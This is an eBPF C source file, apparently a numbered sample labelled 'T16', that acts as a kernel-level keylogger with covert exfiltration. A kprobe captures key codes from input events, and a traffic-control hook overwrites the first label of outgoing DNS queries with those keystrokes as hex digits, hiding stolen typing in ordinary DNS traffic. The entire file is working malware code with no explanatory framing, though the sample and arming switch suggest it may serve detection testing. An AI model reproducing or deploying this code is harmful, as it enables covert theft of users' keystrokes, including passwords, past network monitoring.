// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T16: keystrokes, written as hexadecimal digits over the first label of outgoing DNS questions.
#include "net.h"

SAMPLE_SWITCH;
LICENSE;

struct typed {
	u32 n;
	u8 codes[4];
};
ARRAY(typed, struct typed, 1);

SEC("kprobe/input_handle_event")
int tunnel_key(struct pt_regs *ctx)
{
	u32 zero = 0;
	struct typed *t = bpf_map_lookup_elem(&typed, &zero);

	if (t && PT_REGS_PARM2(ctx) == 1) {
		t->codes[t->n & 3] = PT_REGS_PARM3(ctx);
		t->n++;
	}
	return 0;
}

static __always_inline u8 digit(u8 v)
{
	return v < 10 ? '0' + v : 'a' + v - 10;
}

SEC("tc")
int tunnel_dns(struct __sk_buff *skb)
{
	u32 zero = 0;
	struct typed *t = bpf_map_lookup_elem(&typed, &zero);
	__be16 port = 0;
	u8 label[8];

	bpf_skb_load_bytes(skb, L4_OFF + 2, &port, sizeof(port));
	if (!t || port != bpf_htons(53) || !sample_armed)
		return TC_ACT_OK;
	for (int i = 0; i < 4; i++) {
		label[2 * i] = digit(t->codes[i] >> 4);
		label[2 * i + 1] = digit(t->codes[i] & 15);
	}
	bpf_skb_store_bytes(skb, UDP_PAYLOAD_OFF + sizeof(struct dnshdr) + 1, label, sizeof(label), 0);
	return TC_ACT_OK;
}
